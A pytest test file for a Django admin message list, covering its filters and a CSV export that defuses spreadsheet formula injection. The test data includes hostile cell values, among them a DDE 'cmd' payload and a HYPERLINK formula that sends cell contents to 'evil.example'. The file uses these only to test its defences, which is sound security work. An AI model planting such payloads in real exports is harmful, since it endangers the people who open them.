"""The message changelist's filters, and its CSV export of what they select."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.utils import timezone

from messages_app.csv_export import MESSAGE_CSV_COLUMNS, csv_safe
from messages_app.models import Message
from tests.factories import make_message, make_user

pytestmark = pytest.mark.django_db

Status = Message.Status

CHANGELIST = "/admin/messages_app/message/"
EXPORT = "/admin/messages_app/message/export.csv"


@pytest.fixture
def admin_client_(client) -> Client:
    client.force_login(make_user(username="root", superuser=True))
    return client


def midnight(day: dt.date) -> str:
    """A day's start as the date filters put it in their links (aware, in the current time zone)."""
    return str(timezone.make_aware(dt.datetime.combine(day, dt.time())))


def listed_ids(response) -> list[int]:
    return [m.pk for m in response.context["cl"].result_list]


def exported(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8's byte order mark, for spreadsheet programs
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == MESSAGE_CSV_COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def exported_ids(response) -> list[int]:
    return [int(row["id"]) for row in exported(response)]


# --- the filters ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [("0", [0]), ("1", [1]), ("2-4", [2, 3, 4]), ("5+", [5, 9])],
)
def test_attempts_filter(admin_client_, value, expected):
    by_attempts = {n: make_message(attempts=n).pk for n in (0, 1, 2, 3, 4, 5, 9)}

    response = admin_client_.get(CHANGELIST, {"attempts_range": value})

    assert response.status_code == 200
    assert sorted(listed_ids(response)) == sorted(by_attempts[n] for n in expected)


def test_attempts_filter_offers_its_ranges(admin_client_):
    html = admin_client_.get(CHANGELIST).content.decode()
    for value, label in [("0", "0"), ("1", "1"), ("2-4", "2 to 4"), ("5%2B", "5 or more")]:
        assert f'href="?attempts_range={value}">{label}</a>' in html


def test_sent_at_filter(admin_client_):
    sent_today = make_message(status=Status.SENT)
    sent_long_ago = make_message(status=Status.SENT, sent_at=timezone.now() - dt.timedelta(days=400))
    unsent = make_message()
    today = timezone.localdate()

    this_year = admin_client_.get(
        CHANGELIST,
        {"sent_at__gte": midnight(dt.date(today.year, 1, 1)), "sent_at__lt": midnight(dt.date(today.year + 1, 1, 1))},
    )
    assert listed_ids(this_year) == [sent_today.pk]
    never_sent = admin_client_.get(CHANGELIST, {"sent_at__isnull": "True"})
    assert listed_ids(never_sent) == [unsent.pk]
    assert sent_long_ago.pk in listed_ids(admin_client_.get(CHANGELIST, {"sent_at__isnull": "False"}))


def test_created_at_filter(admin_client_):
    recent = make_message()
    old = make_message()
    Message.objects.filter(pk=old.pk).update(created_at=timezone.now() - dt.timedelta(days=30))
    week_ago = timezone.localdate() - dt.timedelta(days=7)

    response = admin_client_.get(CHANGELIST, {"created_at__gte": midnight(week_ago)})

    assert listed_ids(response) == [recent.pk]
    assert "By created at" in response.content.decode()


# --- the export ------------------------------------------------------------------------------


def test_changelist_links_to_the_export_of_the_same_selection(admin_client_):
    html = admin_client_.get(CHANGELIST, {"status__exact": "failed", "q": "code"}).content.decode()
    assert f'href="{EXPORT}?q=code&amp;status__exact=failed" id="export-csv"' in html

    plain = admin_client_.get(CHANGELIST).content.decode()
    assert f'href="{EXPORT}?" id="export-csv"' in plain


def test_export_has_the_header_and_every_column(admin_client_):
    message = make_message(
        status=Status.SENT,
        content="your code is 4711",
        provider_message_id="prov-1",
        attempts=2,
        last_error="",
    )

    response = admin_client_.get(EXPORT)

    assert response["Content-Disposition"].startswith('attachment; filename="messages-')
    [row] = exported(response)
    assert row == {
        "id": str(message.pk),
        "uuid": str(message.uuid),
        "recipient_phone_number": message.recipient_phone_number,
        "content": "your code is 4711",
        "status": "sent",
        "created_at": message.created_at.isoformat(),
        "sent_at": message.sent_at.isoformat(),
        "provider_message_id": "prov-1",
        "attempts": "2",
        "last_error": "",
    }


def test_export_of_an_empty_selection_is_just_the_header(admin_client_):
    make_message(status=Status.SENT)
    assert exported(admin_client_.get(EXPORT, {"status__exact": "failed"})) == []


def test_export_respects_the_filters_and_search(admin_client_):
    failed_code = make_message(status=Status.FAILED, content="your code is 4711", attempts=5)
    make_message(status=Status.FAILED, content="something else", attempts=5)
    make_message(status=Status.SENT, content="your code is 4711 too")
    failed_code_once = make_message(status=Status.FAILED, content="code 4711 again", attempts=1)

    params = {"status__exact": "failed", "q": "4711"}
    assert exported_ids(admin_client_.get(EXPORT, params)) == [failed_code_once.pk, failed_code.pk]
    assert exported_ids(admin_client_.get(EXPORT, {**params, "attempts_range": "5+"})) == [failed_code.pk]
    # The very same rows the changelist lists for that query.
    assert listed_ids(admin_client_.get(CHANGELIST, params)) == [failed_code_once.pk, failed_code.pk]


def test_export_respects_the_date_hierarchy_and_ordering(admin_client_):
    old = make_message(content="b")
    new = [make_message(content=c) for c in ("c", "a")]
    Message.objects.filter(pk=old.pk).update(created_at=timezone.now() - dt.timedelta(days=400))
    now = timezone.now()

    this_year = admin_client_.get(EXPORT, {"created_at__year": now.year})
    assert exported_ids(this_year) == sorted((m.pk for m in new), reverse=True)

    by_content = admin_client_.get(EXPORT, {"o": "3"})  # list_display column 3 is short_content: not sortable
    assert exported_ids(by_content) == sorted((m.pk for m in [old, *new]), reverse=True)
    by_phone_ascending = admin_client_.get(EXPORT, {"o": "2"})
    assert [row["recipient_phone_number"] for row in exported(by_phone_ascending)] == sorted(
        m.recipient_phone_number for m in [old, *new]
    )


def test_export_includes_every_page_not_just_the_first(admin_client_):
    Message.objects.bulk_create(
        Message(recipient_phone_number=f"+90555{i:07d}", content=f"bulk {i}", status=Status.UNSENT)
        for i in range(2100)  # past one changelist page (50) and one iterator chunk (2000)
    )

    ids = exported_ids(admin_client_.get(EXPORT, {"p": "3"}))

    assert len(ids) == 2100
    assert ids == sorted(ids, reverse=True)


@pytest.mark.parametrize("content", ['=HYPERLINK("http://x")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"])
def test_export_defuses_formulas(admin_client_, content):
    message = make_message(status=Status.FAILED, content=content, last_error="=cmd|' /C calc'!A0")

    [row] = exported(admin_client_.get(EXPORT))

    assert row["content"] == "'" + content
    assert row["last_error"] == "'=cmd|' /C calc'!A0"
    # An E.164 number is "+" and digits, never a formula, and stays usable as a number.
    assert row["recipient_phone_number"] == message.recipient_phone_number
    assert row["recipient_phone_number"].startswith("+")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("=1", "'=1"),
        (" =1", "' =1"),
        ("x;=1", "x;'=1"),
        ("x, -1", "x,' -1"),
        ("x\n@a", "x\n'@a"),
        ("a-b, a+b", "a-b, a+b"),
        ("", ""),
        (None, ""),
        (7, "7"),
        (dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC), "2026-01-02T03:04:05+00:00"),
    ],
)
def test_csv_safe(value, cell):
    assert csv_safe(value) == cell


# Hostile content and what a spreadsheet would see; each is exported, then opened with
# Python's csv module under "," and under ";" (the list separator where the decimal
# separator is a comma): no cell may begin with a formula, even behind whitespace or quotes.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    'x;=HYPERLINK("http://evil.example")',
    "x,=1+1",
    "x;  @SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\n=1+1",
    "\r\n+1+1",
    "\t=1+1",
    "hello;\n-2+3",
    'x;"=1+1"',
    "a\tb\t=c",
    '"=1+1"',
    "one;two, three\nfour",
]
FORMULA_STARTS = ("=", "+", "-", "@")


def starts_a_formula(cell: str) -> bool:
    return cell.lstrip(' \t\r\n"').startswith(FORMULA_STARTS)


def cells(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("content", HOSTILE)
def test_no_exported_cell_begins_a_formula_under_either_separator(admin_client_, content):
    message = make_message(status=Status.FAILED, content=content, last_error=content, provider_message_id=content)
    data = b"".join(admin_client_.get(EXPORT).streaming_content)

    [header, row] = cells(data, ",")
    row = dict(zip(header, row, strict=True))
    assert row["content"] == row["last_error"] == row["provider_message_id"] == csv_safe(content)
    assert row["recipient_phone_number"] == message.recipient_phone_number  # as stored, not neutralised
    assert not any(starts_a_formula(cell) for name, cell in row.items() if name != "recipient_phone_number")

    for line in cells(data, ";"):
        assert not any(starts_a_formula(cell) for cell in line), line


def test_non_ascii_content_survives_the_export_as_utf8(admin_client_):
    text = "Şükran: ğüşıöç ÇĞİÖŞÜ, 日本語, \N{GRINNING FACE}"
    make_message(content=text)
    [row] = exported(admin_client_.get(EXPORT))
    assert row["content"] == text


def test_phone_numbers_stay_as_they_are_stored(admin_client_):
    message = make_message(recipient_phone_number="+905551112233")
    data = b"".join(admin_client_.get(EXPORT).streaming_content)
    assert b",+905551112233," in data  # unquoted and unprefixed: the number as text
    [row] = exported(admin_client_.get(EXPORT))
    assert row["recipient_phone_number"] == message.recipient_phone_number


def test_export_keeps_commas_quotes_and_newlines_in_one_cell(admin_client_):
    make_message(content='Hello, "friend"\nsecond line')
    [row] = exported(admin_client_.get(EXPORT))
    assert row["content"] == 'Hello, "friend"\nsecond line'


def test_export_with_a_bad_filter_goes_back_to_the_changelist(admin_client_):
    response = admin_client_.get(EXPORT, {"no_such_field__exact": "1"})
    assert response.status_code == 302
    assert response["Location"] == CHANGELIST + "?e=1"


def test_export_refuses_anonymous_and_non_staff_users(client):
    make_message()
    response = client.get(EXPORT)
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")

    client.force_login(make_user(username="plain"))
    response = client.get(EXPORT)
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def test_export_needs_view_permission_on_messages(client):
    make_message()
    staff = make_user(username="staff", staff=True)
    client.force_login(staff)
    assert client.get(EXPORT).status_code == 403

    staff.user_permissions.add(Permission.objects.get(codename="view_message"))
    assert len(exported(client.get(EXPORT))) == 1
